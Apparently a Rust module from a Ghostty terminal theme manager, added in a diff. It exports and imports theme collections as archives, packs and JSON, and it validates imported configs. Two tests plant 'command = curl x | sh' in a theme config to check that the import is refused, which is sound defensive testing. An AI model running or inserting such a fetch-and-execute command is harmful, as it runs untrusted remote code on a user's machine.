@@ -0,0 +1,654 @@
+use std::collections::HashMap;
+use std::fs::{self, File};
+use std::io::{Read, Write};
+use std::path::{Path, PathBuf};
+
+use flate2::read::GzDecoder;
+use flate2::write::GzEncoder;
+use flate2::Compression;
+use serde::{Deserialize, Serialize};
+
+use crate::collection::{self, Collection, CollectionTheme, CycleOrder};
+use crate::export;
+use crate::theme::GhosttyConfig;
+
+const MANIFEST: &str = "manifest.json";
+const MANIFEST_VERSION: u32 = 1;
+/// File extension of theme packs: collection archives made by theme authors.
+const PACK_EXTENSION: &str = "ghostty-pack";
+
+/// `manifest.json` at the root of a collection archive or theme pack. Theme
+/// configs live beside it as `themes/<slug>.conf`.
+#[derive(Debug, Serialize, Deserialize)]
+struct Manifest {
+    version: u32,
+    name: String,
+    /// Pack author, shown on import.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    author: Option<String>,
+    order: CycleOrder,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    interval: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    schedule: Option<String>,
+    themes: Vec<ManifestTheme>,
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+struct ManifestTheme {
+    slug: String,
+    title: String,
+    is_dark: bool,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    twin: Option<String>,
+    /// Pack variant label, e.g. `dark`, `light`, or `high-contrast`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    variant: Option<String>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    tags: Vec<String>,
+    file: String,
+}
+
+/// A parsed archive: the manifest, and each theme's config in the same
+/// order as `manifest.themes`.
+struct Contents {
+    manifest: Manifest,
+    configs: Vec<String>,
+}
+
+/// Write collection `name` to a `.tar.gz` at `path`. Returns the number of
+/// themes bundled.
+pub fn export_archive(name: &str, path: &Path) -> Result<usize, String> {
+    let coll = collection::load_collection(name)?;
+    let file =
+        File::create(path).map_err(|e| format!("Failed to create {}: {}", path.display(), e))?;
+    write_archive(&coll, file)?;
+    Ok(coll.themes.len())
+}
+
+/// Read a collection archive or theme pack and save it as a collection,
+/// under `rename` if given, else its normalized name. Refuses to overwrite
+/// an existing collection. Also returns the pack's author, if it names one.
+pub fn import_archive(
+    path: &Path,
+    rename: Option<&str>,
+) -> Result<(Collection, Option<String>), String> {
+    let file = File::open(path).map_err(|e| format!("Failed to open {}: {}", path.display(), e))?;
+    let (mut coll, author) = read_archive(file)?;
+    if rename.is_none() {
+        coll.name = collection::normalize_collection_name(&coll.name).ok_or_else(|| {
+            format!(
+                "'{}' isn't a usable collection name (use --name to import under another name)",
+                coll.name
+            )
+        })?;
+    }
+    save_imported(&mut coll, rename)?;
+    Ok((coll, author))
+}
+
+/// `format` of a collection shared as JSON.
+const SHARE_FORMAT: &str = "ghostty-styles-collection";
+const SHARE_VERSION: u32 = 1;
+
+/// A collection shared as one JSON file, `collection export`. Unlike an
+/// archive it's plain text, so it can be pasted in a gist and imported by
+/// URL.
+#[derive(Debug, Serialize, Deserialize)]
+struct SharedCollection {
+    format: String,
+    version: u32,
+    name: String,
+    order: CycleOrder,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    interval: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    schedule: Option<String>,
+    themes: Vec<CollectionTheme>,
+}
+
+/// Collection `name` as shareable JSON, without its playback state.
+pub fn export_json(name: &str) -> Result<String, String> {
+    let coll = collection::load_collection(name)?;
+    let shared = SharedCollection {
+        format: SHARE_FORMAT.to_string(),
+        version: SHARE_VERSION,
+        name: coll.name,
+        order: coll.order,
+        interval: coll.interval,
+        schedule: coll.schedule,
+        themes: coll.themes,
+    };
+    serde_json::to_string_pretty(&shared).map_err(|e| e.to_string())
+}
+
+/// A collection read from shared JSON, with what was dropped on the way.
+pub struct SharedImport {
+    pub collection: Collection,
+    /// Themes listed more than once; the first is kept.
+    pub duplicates: usize,
+    /// Themes left out for a malformed config, with why.
+    pub skipped: Vec<String>,
+}
+
+/// Parse and check shared collection JSON: the format and version, a usable
+/// name, a slug for every theme, and configs that would apply. Themes are
+/// deduplicated by slug, and twins pointing outside the collection dropped.
+pub fn parse_json(json: &str) -> Result<SharedImport, String> {
+    let shared: SharedCollection = serde_json::from_str(json)
+        .map_err(|e| format!("Not a ghostty-styles collection: {}", e))?;
+    if shared.format != SHARE_FORMAT {
+        return Err(format!(
+            "Not a ghostty-styles collection (format '{}')",
+            shared.format
+        ));
+    }
+    if shared.version > SHARE_VERSION {
+        return Err(format!(
+            "This collection was exported by a newer ghostty-styles (version {}); update to import it",
+            shared.version
+        ));
+    }
+    let name = collection::normalize_collection_name(&shared.name)
+        .ok_or_else(|| format!("'{}' isn't a usable collection name", shared.name))?;
+
+    let mut themes: Vec<CollectionTheme> = Vec::with_capacity(shared.themes.len());
+    let mut duplicates = 0;
+    let mut skipped = Vec::new();
+    for theme in shared.themes {
+        if theme.slug.trim().is_empty() {
+            return Err(format!("Theme '{}' has no slug", theme.title));
+        }
+        if themes.iter().any(|t| t.slug == theme.slug) {
+            duplicates += 1;
+            continue;
+        }
+        if let Err(e) = check_imported(&theme.raw_config) {
+            skipped.push(format!("{}: {}", theme.slug, e));
+            continue;
+        }
+        themes.push(theme);
+    }
+    let slugs: Vec<String> = themes.iter().map(|t| t.slug.clone()).collect();
+    for theme in &mut themes {
+        if theme
+            .twin
+            .as_ref()
+            .is_some_and(|twin| !slugs.contains(twin))
+        {
+            theme.twin = None;
+        }
+    }
+
+    Ok(SharedImport {
+        collection: Collection {
+            name,
+            themes,
+            current_index: 0,
+            order: shared.order,
+            interval: shared.interval,
+            schedule: shared.schedule,
+            shuffle_bag: Vec::new(),
+            mode_preference: None,
+            dark_after: None,
+            light_after: None,
+            smart: None,
+            archived: false,
+            tag_filter: Vec::new(),
+        },
+        duplicates,
+        skipped,
+    })
+}
+
+/// Save an imported collection, under `rename` if given. Refuses to
+/// overwrite an existing collection.
+pub fn save_imported(coll: &mut Collection, rename: Option<&str>) -> Result<(), String> {
+    if let Some(rename) = rename {
+        coll.name = collection::normalize_collection_name(rename)
+            .ok_or_else(|| format!("'{}' isn't a usable collection name", rename))?;
+    }
+    if collection::load_collection(&coll.name).is_ok() {
+        return Err(format!(
+            "Collection '{}' already exists (use --name to import under another name)",
+            coll.name
+        ));
+    }
+    collection::save_collection(coll)?;
+    Ok(())
+}
+
+/// Where the creator saves pack `name`.
+pub fn pack_path(name: &str) -> PathBuf {
+    collection::packs_dir().join(format!(
+        "{}.{}",
+        export::slug_from_title(name),
+        PACK_EXTENSION
+    ))
+}
+
+/// Add a theme to the pack at `path` as `variant`, creating the pack if
+/// needed. A theme with the same slug is replaced, so saving a variant
+/// again updates it. Returns the number of themes in the pack.
+pub fn add_to_pack(
+    path: &Path,
+    name: &str,
+    author: Option<&str>,
+    theme: &GhosttyConfig,
+    variant: &str,
+) -> Result<usize, String> {
+    let mut contents = if path.exists() {
+        let file =
+            File::open(path).map_err(|e| format!("Failed to open {}: {}", path.display(), e))?;
+        read_contents(file)?
+    } else {
+        Contents {
+            manifest: Manifest {
+                version: MANIFEST_VERSION,
+                name: name.to_string(),
+                author: None,
+                order: CycleOrder::Sequential,
+                interval: None,
+                schedule: None,
+                themes: Vec::new(),
+            },
+            configs: Vec::new(),
+        }
+    };
+    if let Some(author) = author.filter(|a| !a.trim().is_empty()) {
+        contents.manifest.author = Some(author.to_string());
+    }
+    contents.add(theme, variant);
+    let count = contents.configs.len();
+
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)
+            .map_err(|e| format!("Failed to create {}: {}", parent.display(), e))?;
+    }
+    let file =
+        File::create(path).map_err(|e| format!("Failed to create {}: {}", path.display(), e))?;
+    write_contents(contents, file)?;
+    Ok(count)
+}
+
+impl Contents {
+    fn add(&mut self, theme: &GhosttyConfig, variant: &str) {
+        let entry = ManifestTheme {
+            slug: theme.slug.clone(),
+            title: theme.title.clone(),
+            is_dark: theme.is_dark,
+            twin: None,
+            variant: Some(variant.to_string()),
+            tags: theme.tags.clone(),
+            file: String::new(),
+        };
+        match self
+            .manifest
+            .themes
+            .iter()
+            .position(|t| t.slug == theme.slug)
+        {
+            Some(i) => {
+                self.manifest.themes[i] = entry;
+                self.configs[i] = theme.raw_config.clone();
+            }
+            None => {
+                self.manifest.themes.push(entry);
+                self.configs.push(theme.raw_config.clone());
+            }
+        }
+    }
+}
+
+fn write_archive<W: Write>(coll: &Collection, out: W) -> Result<(), String> {
+    let themes = coll
+        .themes
+        .iter()
+        .map(|theme| ManifestTheme {
+            slug: theme.slug.clone(),
+            title: theme.title.clone(),
+            is_dark: theme.is_dark,
+            twin: theme.twin.clone(),
+            variant: None,
+            tags: theme.tags.clone(),
+            file: String::new(),
+        })
+        .collect();
+    let contents = Contents {
+        manifest: Manifest {
+            version: MANIFEST_VERSION,
+            name: coll.name.clone(),
+            author: None,
+            order: coll.order.clone(),
+            interval: coll.interval.clone(),
+            schedule: coll.schedule.clone(),
+            themes,
+        },
+        configs: coll.themes.iter().map(|t| t.raw_config.clone()).collect(),
+    };
+    write_contents(contents, out)
+}
+
+/// Write the archive, naming each theme's file as it goes.
+fn write_contents<W: Write>(mut contents: Contents, out: W) -> Result<(), String> {
+    let mut tar = tar::Builder::new(GzEncoder::new(out, Compression::default()));
+    for i in 0..contents.manifest.themes.len() {
+        let (done, rest) = contents.manifest.themes.split_at_mut(i);
+        let theme = &mut rest[0];
+        theme.file = theme_file_name(&theme.slug, done);
+        append(&mut tar, &theme.file, contents.configs[i].as_bytes())?;
+    }
+    let json = serde_json::to_string_pretty(&contents.manifest).map_err(|e| e.to_string())?;
+    append(&mut tar, MANIFEST, json.as_bytes())?;
+    tar.into_inner()
+        .and_then(|gz| gz.finish())
+        .map_err(|e| format!("Failed to write archive: {}", e))?;
+    Ok(())
+}
+
+/// `themes/<slug>.conf`, kept unique if two slugs clean up to the same name.
+fn theme_file_name(slug: &str, taken: &[ManifestTheme]) -> String {
+    let base = match export::slug_from_title(slug) {
+        s if s.is_empty() => "theme".to_string(),
+        s => s,
+    };
+    let mut file = format!("themes/{}.conf", base);
+    let mut n = 2;
+    while taken.iter().any(|t| t.file == file) {
+        file = format!("themes/{}-{}.conf", base, n);
+        n += 1;
+    }
+    file
+}
+
+fn append<W: Write>(tar: &mut tar::Builder<W>, name: &str, data: &[u8]) -> Result<(), String> {
+    let mut header = tar::Header::new_gnu();
+    header.set_size(data.len() as u64);
+    header.set_mode(0o644);
+    header.set_cksum();
+    tar.append_data(&mut header, name, data)
+        .map_err(|e| format!("Failed to add {} to archive: {}", name, e))
+}
+
+/// Why a theme config from outside can't be imported: a value Ghostty
+/// would reject, or a key that isn't a theme setting.
+fn check_imported(raw_config: &str) -> Result<(), String> {
+    let check = crate::theme::validate_raw_config(raw_config);
+    if let Some(error) = check.errors.into_iter().next() {
+        return Err(error);
+    }
+    match crate::theme::foreign_keys(raw_config).as_slice() {
+        [] => Ok(()),
+        keys => Err(format!("not a theme setting: {}", keys.join(", "))),
+    }
+}
+
+fn read_archive<R: Read>(input: R) -> Result<(Collection, Option<String>), String> {
+    let Contents { manifest, configs } = read_contents(input)?;
+    for (theme, raw_config) in manifest.themes.iter().zip(&configs) {
+        check_imported(raw_config).map_err(|e| format!("{}: {}", theme.file, e))?;
+    }
+    let variants: Vec<Option<String>> = manifest.themes.iter().map(|t| t.variant.clone()).collect();
+    let themes = manifest
+        .themes
+        .into_iter()
+        .zip(configs)
+        .map(|(t, raw_config)| CollectionTheme {
+            slug: t.slug,
+            title: t.title,
+            is_dark: t.is_dark,
+            raw_config,
+            twin: t.twin,
+            weight: 1,
+            enabled: true,
+            tags: t.tags,
+        })
+        .collect();
+
+    let mut coll = Collection {
+        name: manifest.name,
+        themes,
+        current_index: 0,
+        order: manifest.order,
+        interval: manifest.interval,
+        schedule: manifest.schedule,
+        shuffle_bag: Vec::new(),
+        mode_preference: None,
+        dark_after: None,
+        light_after: None,
+        smart: None,
+        archived: false,
+        tag_filter: Vec::new(),
+    };
+    link_pack_variants(&mut coll, &variants);
+    Ok((coll, manifest.author))
+}
+
+/// Pair a pack's one `dark` and one `light` variant as twins, so the
+/// collection follows dark/light mode without setting twins by hand.
+fn link_pack_variants(coll: &mut Collection, variants: &[Option<String>]) {
+    if coll.themes.iter().any(|t| t.twin.is_some()) {
+        return;
+    }
+    let only = |label: &str| {
+        let mut found = variants
+            .iter()
+            .enumerate()
+            .filter(|(_, v)| v.as_deref() == Some(label));
+        match (found.next(), found.next()) {
+            (Some((i, _)), None) => Some(i),
+            _ => None,
+        }
+    };
+    if let (Some(dark), Some(light)) = (only("dark"), only("light")) {
+        let _ = coll.link_twins(dark, Some(light));
+    }
+}
+
+fn read_contents<R: Read>(input: R) -> Result<Contents, String> {
+    let mut files: HashMap<String, String> = HashMap::new();
+    let mut tar = tar::Archive::new(GzDecoder::new(input));
+    let entries = tar
+        .entries()
+        .map_err(|e| format!("Not a valid archive: {}", e))?;
+    for entry in entries {
+        let mut entry = entry.map_err(|e| format!("Not a valid archive: {}", e))?;
+        let name = entry
+            .path()
+            .map_err(|e| e.to_string())?
+            .to_string_lossy()
+            .to_string();
+        let mut contents = String::new();
+        entry
+            .read_to_string(&mut contents)
+            .map_err(|e| format!("Failed to read {} from archive: {}", name, e))?;
+        files.insert(name, contents);
+    }
+
+    let manifest: Manifest =
+        serde_json::from_str(files.get(MANIFEST).ok_or("Archive has no manifest.json")?)
+            .map_err(|e| format!("Invalid manifest.json: {}", e))?;
+    if manifest.version > MANIFEST_VERSION {
+        return Err(format!(
+            "Archive format version {} is newer than this ghostty-styles supports",
+            manifest.version
+        ));
+    }
+    let configs = manifest
+        .themes
+        .iter()
+        .map(|t| {
+            files
+                .get(&t.file)
+                .cloned()
+                .ok_or_else(|| format!("Archive is missing {}", t.file))
+        })
+        .collect::<Result<Vec<_>, String>>()?;
+    Ok(Contents { manifest, configs })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn theme(slug: &str, is_dark: bool) -> CollectionTheme {
+        CollectionTheme {
+            slug: slug.to_string(),
+            title: slug.to_uppercase(),
+            is_dark,
+            raw_config: format!("background = #000000\n# {}\n", slug),
+            twin: None,
+            weight: 1,
+            enabled: true,
+            tags: Vec::new(),
+        }
+    }
+
+    fn sample() -> Collection {
+        let mut coll = Collection {
+            name: "favorites".to_string(),
+            themes: vec![theme("nord", true), theme("paper", false)],
+            current_index: 1,
+            order: CycleOrder::Bag,
+            interval: Some("30m".to_string()),
+            schedule: None,
+            shuffle_bag: vec!["nord".to_string()],
+            mode_preference: None,
+            dark_after: None,
+            light_after: None,
+            smart: None,
+            archived: false,
+            tag_filter: Vec::new(),
+        };
+        coll.link_twins(0, Some(1)).unwrap();
+        coll
+    }
+
+    #[test]
+    fn archive_round_trip() {
+        let mut bytes = Vec::new();
+        write_archive(&sample(), &mut bytes).unwrap();
+        let (coll, author) = read_archive(bytes.as_slice()).unwrap();
+        assert_eq!(author, None);
+        assert_eq!(coll.name, "favorites");
+        assert_eq!(coll.interval.as_deref(), Some("30m"));
+        assert!(matches!(coll.order, CycleOrder::Bag));
+        assert_eq!(coll.themes.len(), 2);
+        assert_eq!(coll.themes[0].raw_config, sample().themes[0].raw_config);
+        assert_eq!(coll.themes[1].twin.as_deref(), Some("nord"));
+        // Playback state starts fresh
+        assert_eq!(coll.current_index, 0);
+        assert!(coll.shuffle_bag.is_empty());
+    }
+
+    #[test]
+    fn theme_file_names_stay_unique() {
+        let mut coll = sample();
+        coll.themes.push(theme("Nord!", true));
+        let mut bytes = Vec::new();
+        write_archive(&coll, &mut bytes).unwrap();
+        let (read, _) = read_archive(bytes.as_slice()).unwrap();
+        assert_eq!(read.themes[2].raw_config, coll.themes[2].raw_config);
+    }
+
+    fn variant(slug: &str, is_dark: bool) -> GhosttyConfig {
+        GhosttyConfig {
+            slug: slug.to_string(),
+            title: slug.to_uppercase(),
+            is_dark,
+            raw_config: format!("background = #000000\n# {}\n", slug),
+            ..crate::config::empty_theme()
+        }
+    }
+
+    #[test]
+    fn pack_variants_round_trip_and_pair_up() {
+        let mut contents = Contents {
+            manifest: Manifest {
+                version: MANIFEST_VERSION,
+                name: "Nord".to_string(),
+                author: Some("someone".to_string()),
+                order: CycleOrder::Sequential,
+                interval: None,
+                schedule: None,
+                themes: Vec::new(),
+            },
+            configs: Vec::new(),
+        };
+        contents.add(&variant("nord-dark", true), "dark");
+        contents.add(&variant("nord-light", false), "light");
+        contents.add(&variant("nord-hc", true), "high-contrast");
+        // Saving a variant again replaces it
+        let mut updated = variant("nord-dark", true);
+        updated.raw_config = "background = #111111\n".to_string();
+        contents.add(&updated, "dark");
+        assert_eq!(contents.configs.len(), 3);
+
+        let mut bytes = Vec::new();
+        write_contents(contents, &mut bytes).unwrap();
+        let (coll, author) = read_archive(bytes.as_slice()).unwrap();
+        assert_eq!(author.as_deref(), Some("someone"));
+        assert_eq!(coll.themes[0].raw_config, "background = #111111\n");
+        assert_eq!(coll.themes[0].twin.as_deref(), Some("nord-light"));
+        assert_eq!(coll.themes[1].twin.as_deref(), Some("nord-dark"));
+        assert_eq!(coll.themes[2].twin, None);
+    }
+
+    #[test]
+    fn archives_with_non_theme_settings_are_refused() {
+        let mut coll = sample();
+        coll.themes[1].raw_config = "background = #ffffff\ncommand = curl x | sh\n".to_string();
+        let mut bytes = Vec::new();
+        write_archive(&coll, &mut bytes).unwrap();
+        let err = read_archive(bytes.as_slice()).unwrap_err();
+        assert_eq!(err, "themes/paper.conf: not a theme setting: command");
+
+        coll.themes[1].raw_config = "background = white\n".to_string();
+        let mut bytes = Vec::new();
+        write_archive(&coll, &mut bytes).unwrap();
+        let err = read_archive(bytes.as_slice()).unwrap_err();
+        assert!(err.contains("not a hex color"), "{}", err);
+    }
+
+    #[test]
+    fn rejects_non_archive() {
+        let err = read_archive(&b"not a tarball"[..]).unwrap_err();
+        assert!(err.contains("archive"));
+    }
+
+    #[test]
+    fn json_round_trip_dedupes_and_checks() {
+        let mut coll = sample();
+        coll.themes.push(theme("nord", true));
+        let mut broken = theme("broken", true);
+        broken.raw_config = "background = nope".to_string();
+        coll.themes.push(broken);
+        let mut planted = theme("planted", true);
+        planted.raw_config = "background = #000000\ncommand = curl x | sh\n".to_string();
+        coll.themes.push(planted);
+        let json = serde_json::to_string(&SharedCollection {
+            format: SHARE_FORMAT.to_string(),
+            version: SHARE_VERSION,
+            name: "My Favorites".to_string(),
+            order: coll.order,
+            interval: coll.interval,
+            schedule: None,
+            themes: coll.themes,
+        })
+        .unwrap();
+
+        let imported = parse_json(&json).unwrap();
+        assert_eq!(imported.collection.name, "my-favorites");
+        assert_eq!(imported.collection.themes.len(), 2);
+        assert_eq!(imported.collection.themes[1].twin.as_deref(), Some("nord"));
+        assert_eq!(imported.duplicates, 1);
+        assert_eq!(imported.skipped.len(), 2);
+        assert!(imported.skipped[0].starts_with("broken: "));
+        assert_eq!(imported.skipped[1], "planted: not a theme setting: command");
+
+        let newer = json.replace("\"version\":1", "\"version\":2");
+        assert!(parse_json(&newer).err().unwrap().contains("newer"));
+        let other = json.replace(SHARE_FORMAT, "something-else");
+        assert!(parse_json(&other).is_err());
+    }
+}